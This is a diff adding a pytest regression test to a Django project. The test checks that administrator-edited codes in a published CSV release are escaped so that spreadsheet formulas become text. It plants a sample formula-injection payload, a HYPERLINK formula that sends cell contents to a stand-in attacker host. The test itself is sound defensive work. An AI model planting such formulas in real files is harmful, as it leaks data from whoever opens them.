@@ -97,3 +97,20 @@ def test_rows_shared_by_cases_alike_are_released_as_if_each_case_had_its_own(cas
         write_csv(fast, out_fast)
         write_csv(plain, out_plain)
         assert out_fast.getvalue() == out_plain.getvalue()
+
+
+@pytest.mark.django_db
+def test_a_code_that_looks_like_a_formula_is_text_in_the_release(cast, tmp_path):
+    """Formula injection (review 2): the release is made of the vocabularies' CTDC codes, which the administrator
+    edits; a code typed as `=HYPERLINK(…)` went into the published CSV as a formula that whoever opened it in a
+    spreadsheet ran. It is text now; -99 (unknown) stays as the CTDC format writes it."""
+    from nicat.vocab.models import Term
+
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Female")'
+    Term.objects.filter(vocabulary="gender", code="feminine").update(ctdc_code=payload)
+    _world(cast)
+    text, rows = _release(2, tmp_path)
+    genders = {r["gender"] for r in rows}
+    assert "'" + payload in genders and payload not in genders
+    assert not [v for r in csv.reader(io.StringIO(text)) for v in r if v[:1] in ("=", "+", "@")]
+    assert "-99" in {r["majorityStatusAtExploit"] for r in rows}
